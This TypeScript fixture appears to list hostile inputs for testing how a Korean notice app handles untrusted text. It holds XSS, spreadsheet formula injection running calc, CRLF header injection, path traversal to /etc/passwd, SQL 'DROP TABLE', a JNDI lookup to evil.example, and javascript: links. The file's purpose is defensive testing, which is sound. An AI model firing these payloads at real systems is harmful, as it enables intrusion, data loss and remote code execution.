/** What a page may hold that is no text to somebody: to a parser, a terminal, a spreadsheet, a file system, a reader. */
export const PAYLOADS: Readonly<Record<string, string>> = {
  '100 kB': `긴공고 ${'가나다 '.repeat(25_000)}`,
  '100 kB without a space': '나'.repeat(100_000),
  'right to left': '\u202e거꾸로 공고\u202c \u2067뒤\u2069',
  'zero width': '영\u200b폭\u2060공\ufeff고',
  'lone surrogates': '반쪽 \ud800 공고 \udc00',
  NUL: '널\u0000공고\u0001',
  noncharacters: '비문자 \ufffe\uffff\ufdd0 공고',
  'piled marks': `더미 Z${'\u0301'.repeat(5_000)}`,
  formula: '=cmd|\u0027 /C calc\u0027!A0',
  'formula with a sign': '@SUM(1+1)*cmd|\u0027 /C calc\u0027!A0',
  markup: '<script>alert(1)</script><img src=x onerror=alert(1)> 공고',
  'end of an attribute': '" autofocus onfocus="alert(1) 공고',
  'end of CDATA': ']]><x>&#x0;&evil; 공고',
  event: '공고\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:evil\r\nSUMMARY:evil',
  header: '공고\r\nX-Evil: 1\r\nSet-Cookie: evil=1\r\n\r\nevil body',
  'log line': '공고\n{"level":"error","msg":"evil"}\nERROR evil',
  terminal: '\u001b[2J\u001b[31m\u001b]0;evil\u0007\u009b2J 공고',
  path: '../../../../etc/passwd 공고',
  'path, encoded': '%2e%2e%2f..\\..\\CON:\u0000.ics 공고',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of somebody else's.
  template: '${jndi:ldap://evil.example/x} {{7*7}} <%= 7 %> 공고',
  prototype: '__proto__',
  constructor: 'constructor',
  JSON: '"},"evil":true,"x":{"y":" 공고',
  SQL: "'); DROP TABLE ledger; -- 공고",
}

/** Addresses that must not become links, or only as they are. */
export const LINKS: readonly string[] = [
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'file:///etc/passwd',
  'https://evil.example/\r\nX-Evil: 1',
  'https://evil.example/"onmouseover="alert(1)',
  `https://evil.example/${'b'.repeat(100_000)}`,
  'https://evil.example/\u202egro.elpmaxe',
  'vbscript:msgbox(1)',
]
